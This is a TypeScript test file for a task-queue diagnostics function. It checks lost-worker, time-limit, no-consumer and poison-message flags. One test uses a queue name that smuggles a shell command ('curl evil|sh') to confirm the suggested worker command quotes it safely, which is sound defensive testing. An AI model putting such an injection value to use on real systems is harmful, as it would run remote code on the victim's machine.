import { describe, expect, it } from 'vitest';
import type { QueueStats, WorkerInfo } from '@/lib/brokers/dto';
import { diagnosePotatoq, timeLimitOf, type PotatoqFacts } from './diagnose';

const worker = (id: string, status: WorkerInfo['status'], queues: string[], ageSeconds = 1): WorkerInfo => ({
  id,
  hostname: 'h',
  pid: '1',
  queues,
  concurrency: '1',
  threads: null,
  running: [],
  heartbeatAt: new Date().toISOString(),
  ageSeconds,
  status,
  registered: null,
});
const queue = (name: string, ready: number, extra: Partial<QueueStats> = {}): QueueStats => ({
  name,
  counts: { ready, scheduled: 0, running: 0 },
  dead: 0,
  oldestWaitingAt: null,
  tasks: [],
  ...extra,
});
const facts = (f: Partial<PotatoqFacts>): PotatoqFacts => ({
  brokerId: 'b',
  queues: [],
  workers: { value: [] },
  running: { value: { rows: [], capped: false } },
  overdue: { value: [] },
  overdueSeconds: 120,
  deadAfter: 60,
  revoke: { on: true },
  ...f,
});
const msg = (options: string) => `{"task":"t","id":"x","v":1,"queue":"q","enqueued_at":1.5,"options":${options}}`;

describe('timeLimitOf', () => {
  it("reads a message's per-call time limit, tolerating Python's NaN tokens elsewhere", () => {
    expect(timeLimitOf(msg('{"time_limit":30}'))).toBe(30);
    expect(timeLimitOf(msg('{"time_limit":2.5}'))).toBe(2.5);
    expect(timeLimitOf('{"task":"t","id":"x","args":[NaN],"options":{"time_limit":9}}')).toBe(9);
    expect(timeLimitOf(msg('{}'))).toBeNull();
    expect(timeLimitOf(msg('{"time_limit":"soon"}'))).toBeNull();
    expect(timeLimitOf('not json')).toBeNull();
    expect(timeLimitOf(null)).toBeNull();
  });
});

describe('diagnosePotatoq', () => {
  it('groups running tasks of a dead or missing worker, and leaves those of a live one alone', () => {
    const rows = [
      { id: 'a', queue: 'q', task: 't', worker: 'w-dead', runningFor: 300, payload: null },
      { id: 'b', queue: 'q', task: 't', worker: 'w-dead', runningFor: 300, payload: null },
      { id: 'c', queue: 'q', task: 't', worker: 'w-gone', runningFor: 5, payload: null },
      { id: 'd', queue: 'q', task: 't', worker: 'w-live', runningFor: 5, payload: null },
    ];
    const d = diagnosePotatoq(
      facts({
        running: { value: { rows, capped: false } },
        workers: { value: [worker('w-dead', 'dead', ['q'], 400), worker('w-live', 'alive', ['q'])] },
      }),
    );
    const lost = d.flags.filter((f) => f.check === 'worker-lost');
    expect(lost.map((f) => [f.ids, f.link])).toEqual([
      [['a', 'b'], { page: 'queue', queue: 'q', state: 'running' }],
      [['c'], { page: 'task', id: 'c' }],
    ]);
    expect(lost[0]!.cause).toContain('6m 40s ago');
    expect(lost[1]!.cause).toContain('has no heartbeat any more');
    expect(lost[0]!.can).toMatch(/recovery/);
    expect(lost[0]!.cannot).toMatch(/never changes running tasks/);
  });

  it('flags a task running past its per-call time limit and notes the limits it cannot see', () => {
    const rows = [
      { id: 'slow', queue: 'q', task: 'shop.export', worker: 'w', runningFor: 400, payload: msg('{"time_limit":60}') },
      { id: 'ok', queue: 'q', task: 'shop.export', worker: 'w', runningFor: 70, payload: msg('{"time_limit":60}') },
    ];
    const d = diagnosePotatoq(facts({ running: { value: { rows, capped: false } }, workers: { value: [worker('w', 'alive', ['q'])] } }));
    expect(d.flags.map((f) => [f.check, f.ids])).toEqual([['over-time-limit', ['slow']]]);
    expect(d.flags[0]!.cause).toContain('past its time limit of 60 s');
    expect(d.notes.map((n) => n.check)).toContain('over-time-limit');
  });

  it('uses the broker consumer count where there is one, heartbeats otherwise, and says when neither is known', () => {
    const byConsumers = diagnosePotatoq(facts({ queues: [queue('a', 3, { consumers: 0 }), queue('b', 3, { consumers: 2 })] }));
    expect(byConsumers.flags.map((f) => [f.check, f.queue, f.count])).toEqual([['no-consumer', 'a', 3]]);
    const byBeats = diagnosePotatoq(
      facts({
        queues: [queue('a', 1), queue('b', 1), queue('c', 0)],
        workers: { value: [worker('w', 'stale', ['b']), worker('x', 'dead', ['a'])] },
      }),
    );
    expect(byBeats.flags.map((f) => f.queue)).toEqual(['a']);
    const blind = diagnosePotatoq(facts({ queues: [queue('a', 1)], workers: { why: 'no heartbeats here' } }));
    expect(blind.flags).toEqual([]);
    expect(blind.unknown).toContainEqual({ check: 'no-consumer', why: 'no heartbeats here' });
  });

  it('quotes the queue name in the worker command it suggests, so a hostile name stays one word', () => {
    const d = diagnosePotatoq(facts({ queues: [queue('x;curl evil|sh;#', 2, { consumers: 0 })] }));
    expect(d.flags[0]!.can).toContain("potatoq worker -Q 'x;curl evil|sh;#'");
  });

  it("says a poison head can be revoked only where revoke is on, with the broker's reason otherwise", () => {
    const blockedBy = { id: 'p', task: 'x', foreign: 'celery-v2', system: 'potatoq', reason: 'This is a Celery message' };
    const q = [queue('q', 1, { blockedBy })];
    const on = diagnosePotatoq(facts({ queues: q, workers: { value: [worker('w', 'alive', ['q'])] } }));
    expect(on.flags).toMatchObject([{ check: 'poison', ids: ['p'], link: { page: 'task', id: 'p' } }]);
    expect(on.flags[0]!.can).toMatch(/^Revoke it/);
    const off = diagnosePotatoq(
      facts({ queues: q, workers: { value: [worker('w', 'alive', ['q'])] }, revoke: { on: false, why: 'configured read-only' } }),
    );
    expect(off.flags[0]!.can).toContain('not here: configured read-only');
  });

  it('names a poison head whose task is unknown once, without doubled parentheses', () => {
    const blockedBy = { id: 'p', task: null, foreign: 'celery-v2', system: 'potatoq', reason: 'This is a Celery message' };
    const d = diagnosePotatoq(
      facts({ queues: [queue('imports', 1, { blockedBy })], workers: { value: [worker('w', 'alive', ['imports'])] } }),
    );
    expect(d.flags[0]!.cause).toMatch(/^The next task of queue imports \(task name unknown\) cannot be decoded by potatoq/);
    expect(d.flags[0]!.cause).not.toContain('((');
  });

  it('reports checks whose facts the store cannot read as unknown, with why', () => {
    const d = diagnosePotatoq(facts({ running: { why: 'no view of running work' }, overdue: { why: 'delayed messages are hidden' } }));
    expect(d.unknown).toEqual([
      { check: 'worker-lost', why: 'no view of running work' },
      { check: 'over-time-limit', why: 'no view of running work' },
      { check: 'overdue', why: 'delayed messages are hidden' },
    ]);
  });
});
